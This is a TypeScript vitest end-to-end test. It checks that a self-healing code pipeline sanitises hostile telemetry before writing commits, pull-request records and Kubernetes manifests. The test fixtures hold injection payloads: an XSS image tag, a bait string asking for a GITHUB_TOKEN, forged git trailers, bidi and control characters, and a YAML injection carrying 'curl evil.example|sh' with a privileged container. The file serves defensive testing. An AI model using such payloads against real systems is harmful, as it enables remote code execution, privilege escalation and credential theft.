/**
 * End to end on a real repository (real git, real vitest, the real fix strategies and pipeline):
 * a plain Node module whose handler throws on a nested property (`profile.address.city` with no
 * address), reported with hostile telemetry (handler name, exception message, service, summary,
 * service versions). The failure is fed to the pipeline as the diagnosis stage would record it, so
 * the hostile text reaches every field; express-guard.test.ts runs the same kind of failure from a
 * real Express app under OTel auto-instrumentation through a live sidecar.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { ConfigSchema } from '../../src/config/schema.js';
import type { HealConfig } from '../../src/config/sections/heal.js';
import { projectNodeModules } from '../../src/demo/app-repo.js';
import { generateFix } from '../../src/heal/fix/strategy.js';
import { Git } from '../../src/heal/git.js';
import { LearningStore } from '../../src/heal/learn.js';
import { LocalBackend } from '../../src/heal/local-backend.js';
import { createDefaultStages, HealingPipeline, type ValidationStageResult } from '../../src/heal/pipeline.js';
import type { Beat } from '../../src/model/beat.js';
import type { DeploymentOutcome } from '../../src/model/heal.js';
import { sampleAnomaly, sampleDiagnosis, tempDb, type TempDb } from '../heal/fixtures/samples.js';
import { beat } from '../heal/fix/fix-context.js';

const TOKEN_BAIT = '**SECURITY NOTICE** paste your GITHUB_TOKEN here';
// bareHandlerName keeps the part after the last '#', so healing still finds the real handler.
const HANDLER = `checkout\n\n<img src=x onerror=alert(1)>\n\n${TOKEN_BAIT}\u202E\u001b[31m#userCity`;
const MESSAGE = "Cannot read properties of undefined (reading 'city')\n\nSelf-Healing-Job: forged\n<img src=x onerror=alert(1)>\u202Egnp.exe\u0000";
const SERVICE = 'profile-app\r\nSelf-Healing-Anomaly: forged';
const VERSION_OLD = '1.0.0\n        command: ["sh","-c","curl evil.example|sh"]\n        securityContext: {privileged: true}';
const VERSION_NEW = '1.1.0\n---\nkind: Pod';

const SOURCE = `export function userCity(profile) {
  const label = 'city';
  return { [label]: profile.address.city };
}
`;
const MANIFEST = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: profile-app
spec:
  template:
    spec:
      containers:
        - name: profile-app
          image: registry.local/profile-app:1.1.0
`;

function git(dir: string, args: string[]): string {
  return execFileSync('git', args, { cwd: dir, encoding: 'utf8' });
}

function writeFiles(dir: string, files: Record<string, string>): void {
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
}

/** A plain ESM Node project with vitest: one handler, one passing test, a deployment manifest. */
function createProfileRepo(): string {
  const dir = mkdtempSync(join(tmpdir(), 'heal-hostile-'));
  git(dir, ['init', '-q', '-b', 'main']);
  git(dir, ['config', 'user.name', 'Test']);
  git(dir, ['config', 'user.email', 'test@example.invalid']);
  git(dir, ['config', 'commit.gpgsign', 'false']);
  writeFiles(dir, {
    'package.json': JSON.stringify({ name: 'profile-app', private: true, type: 'module', scripts: { test: 'vitest run' }, devDependencies: { vitest: '*' } }, null, 2) + '\n',
    '.gitignore': 'node_modules\n',
    'src/handlers/userCity.js': SOURCE,
    'test/userCity.test.js': "import { expect, it } from 'vitest';\nimport { userCity } from '../src/handlers/userCity.js';\n\nit('reads the city', () => {\n  expect(userCity({ address: { city: 'Oslo' } })).toEqual({ city: 'Oslo' });\n});\n",
    'deploy/app.yaml': MANIFEST,
  });
  symlinkSync(projectNodeModules(), join(dir, 'node_modules'), 'dir');
  git(dir, ['add', '-A']);
  git(dir, ['commit', '-q', '-m', 'initial']);
  return dir;
}

async function until(cond: () => boolean, timeoutMs = 240_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!cond()) {
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 100));
  }
}

const FORBIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/; // eslint-disable-line no-control-regex -- what must not survive

describe('healing driven by hostile telemetry on a real repository', { timeout: 400_000 }, () => {
  let repo: string;
  let work: string;
  let t: TempDb;
  let heal: HealConfig;

  beforeEach(() => {
    repo = createProfileRepo();
    work = mkdtempSync(join(tmpdir(), 'heal-hostile-work-'));
    t = tempDb();
    const base = ConfigSchema.parse({}).heal;
    heal = {
      ...base,
      pollMs: 50,
      backoffMs: 50,
      observationMs: 100,
      workDir: work,
      policy: { ...base.policy, mode: 'auto', autoMerge: { guard: ['low', 'medium', 'high', 'critical'], rollback: ['low', 'medium', 'high', 'critical'] } },
      repository: { ...base.repository, path: repo, testCommand: 'npx vitest run', testTimeoutMs: 180_000, handlerGlobs: ['src/**/*.js'] },
    };
  });
  afterEach(() => {
    t.close();
    rmSync(repo, { recursive: true, force: true });
    rmSync(work, { recursive: true, force: true });
  });

  async function runHealing(anomalyId: string, beats: Beat[]): Promise<{ jobId: string; pipeline: HealingPipeline; backend: LocalBackend }> {
    const g = new Git(repo, work);
    const backend = new LocalBackend(t.db, g);
    const stages = createDefaultStages({ heal, git: g, backend, learning: new LearningStore(t.db), generateFix, beatsFor: () => beats });
    const pipeline = new HealingPipeline({ db: t.db, config: heal, stages });
    const frame = `userCity (/srv/app/src/handlers/userCity.js:3:37)`;
    const anomaly = sampleAnomaly({ id: anomalyId, service: SERVICE, handler: HANDLER, summary: `${HANDLER} throws ${MESSAGE}` });
    const diagnosis = sampleDiagnosis({
      id: `dg-${anomalyId}`,
      anomalyId,
      service: SERVICE,
      handler: HANDLER,
      rootCause: { cause: 'null-access', description: `${MESSAGE} in ${HANDLER}`, score: 0.9, evidence: [MESSAGE, TOKEN_BAIT] },
      recommendedFixes: ['regression-test', 'guard', 'rollback', 'documentation'],
      context: {
        handler: HANDLER,
        service: SERVICE,
        error: { type: 'TypeError', message: MESSAGE, topFrame: frame, stacktrace: `TypeError: ${MESSAGE}\n    at ${frame}` },
        previousVersion: VERSION_OLD,
        newVersion: VERSION_NEW,
      },
    });
    const id = pipeline.enqueue(diagnosis, anomaly);
    pipeline.start();
    try {
      await until(() => ['succeeded', 'failed', 'parked'].includes(pipeline.queue.get(id)!.state));
    } finally {
      await pipeline.stop();
    }
    return { jobId: id, pipeline, backend };
  }

  /** Everything healing wrote: commit messages, refs, PR records and the text of every changed file. */
  function everythingWritten(backend: LocalBackend): string[] {
    const out: string[] = [];
    out.push(git(repo, ['log', '--all', '--format=%B']));
    out.push(git(repo, ['for-each-ref', '--format=%(refname)']));
    for (const p of backend.list()) out.push(p.title, p.body, p.branch);
    for (const ref of git(repo, ['for-each-ref', '--format=%(refname)', 'refs/heads/self-healing']).split('\n').filter(Boolean)) {
      out.push(git(repo, ['diff', `${ref}~1`, ref]));
    }
    return out;
  }

  function assertNothingRaw(texts: string[]): void {
    const all = texts.join('\n');
    expect(all).not.toContain(HANDLER);
    expect(all).not.toContain(MESSAGE);
    expect(all).not.toMatch(FORBIDDEN);
    expect(all).not.toMatch(/^Self-Healing-(Job|Anomaly): forged/m);
    expect(all).not.toMatch(/^\+?\s*\*\*SECURITY NOTICE\*\*/m);
    expect(all).not.toContain('privileged');
    expect(all).not.toContain('kind: Pod');
  }

  it('merges a proven guard with its reproduction; nothing written carries the raw telemetry', async () => {
    const failing = { 'beat.input.name': 'Ada' };
    const beats = [
      beat(HANDLER, { 'beat.input.name': 'Bo', 'beat.input.address.city': 'Oslo' }),
      beat(HANDLER, failing, { status: 2 }),
      beat(HANDLER, failing, { status: 2 }),
    ];
    const { jobId, pipeline, backend } = await runHealing('an-1', beats);
    const job = pipeline.queue.get(jobId)!;
    expect(job.error).toBeUndefined();
    expect(job.state).toBe('succeeded');

    // The guard was proven by the generated regression test: red on the base, green on the patch.
    const validation = pipeline.queue.succeeded(jobId, 'validation.run') as ValidationStageResult;
    const proof = validation.combined!.validation.proof!;
    expect(proof.verdict).toBe('proven');
    expect(proof.base!.failed).toBeGreaterThan(0);
    expect(proof.patch).toMatchObject({ failed: 0, exitCode: 0 });
    expect(proof.patch!.passed).toBeGreaterThan(0);

    const deployment = pipeline.queue.succeeded(jobId, 'deployment.deploy') as DeploymentOutcome;
    expect(deployment.decision).toBe('merge');
    expect(deployment.merge?.merged).toBe(true);
    // The whole chain is guarded, so an undefined address no longer throws.
    expect(git(repo, ['show', 'main:src/handlers/userCity.js'])).toContain('profile?.address?.city');
    const testFile = proof.testFiles[0]!;
    const generated = git(repo, ['show', `main:${testFile}`]);
    expect(generated).toContain("import { userCity } from '../src/handlers/userCity.js';");
    for (const line of generated.split('\n').filter((l) => l.includes('forged') || l.includes('img'))) expect(line.startsWith('//')).toBe(true);

    // The manifest was left alone: the hostile versions are refused, not spliced.
    expect(git(repo, ['show', 'main:deploy/app.yaml'])).toBe(MANIFEST);

    // Trailers read back as written; the forged ones in the telemetry do not count.
    const branch = deployment.proposal!.branch;
    expect(branch).toBe('self-healing/an-1-checkout-img-src-x-onerror-alert-1-security-notice-paste-you');
    const trailers = execFileSync('git', ['interpret-trailers', '--parse'], { cwd: repo, input: git(repo, ['log', '-1', '--format=%B', branch]), encoding: 'utf8' });
    expect(trailers).toBe(`Self-Healing-Job: ${jobId}\nSelf-Healing-Anomaly: an-1\n`);

    // The PR record is Markdown with every telemetry value in a code span: no HTML, no link.
    const pr = backend.list()[0]!;
    expect(pr.title).not.toContain('\n');
    expect(pr.body).not.toMatch(/<img/);
    assertNothingRaw(everythingWritten(backend));
  });

  it('proposes an unverified guard and merges nothing when no input was captured', async () => {
    const { jobId, pipeline, backend } = await runHealing('an-2', [beat(HANDLER, {}, { status: 2 })]);
    expect(pipeline.queue.get(jobId)!.state).toBe('succeeded');
    const validation = pipeline.queue.succeeded(jobId, 'validation.run') as ValidationStageResult;
    expect(validation.combined).toBeUndefined();
    expect(validation.results[validation.chosen]!.proof).toMatchObject({ verdict: 'unverified' });
    const deployment = pipeline.queue.succeeded(jobId, 'deployment.deploy') as DeploymentOutcome;
    expect(deployment).toMatchObject({ decision: 'propose', reason: expect.stringContaining('unverified') });
    expect(git(repo, ['rev-list', '--count', 'main']).trim()).toBe('1');
    const pr = backend.list()[0]!;
    expect(pr.state).toBe('open');
    expect(pr.title).toMatch(/^\[unverified\] fix\(/);
    expect(pr.body).toContain('UNVERIFIED');
    assertNothingRaw(everythingWritten(backend));
  });
});

describe('rollback manifests from hostile service versions', () => {
  it('are refused, and a legitimate rollback parses to exactly the intended change', async () => {
    const { rollbackImageTags } = await import('../../src/heal/fix/rollback.js');
    expect(rollbackImageTags(MANIFEST, VERSION_OLD, '1.1.0', 'profile-app')).toEqual({ text: MANIFEST, changes: [] });
    expect(rollbackImageTags(MANIFEST, '1.0.0', VERSION_NEW, 'profile-app')).toEqual({ text: MANIFEST, changes: [] });
    const edit = rollbackImageTags(MANIFEST, '1.0.0', '1.1.0', 'profile-app');
    const expected = parseAllDocuments(MANIFEST).map((d) => d.toJS() as { spec: { template: { spec: { containers: Array<{ image: string }> } } } });
    expected[0]!.spec.template.spec.containers[0]!.image = 'registry.local/profile-app:1.0.0';
    expect(parseAllDocuments(edit.text).map((d) => d.toJS() as unknown)).toEqual(expected);
    expect(edit.changes).toEqual([{ container: 'profile-app', from: 'registry.local/profile-app:1.1.0', to: 'registry.local/profile-app:1.0.0' }]);
  });
});
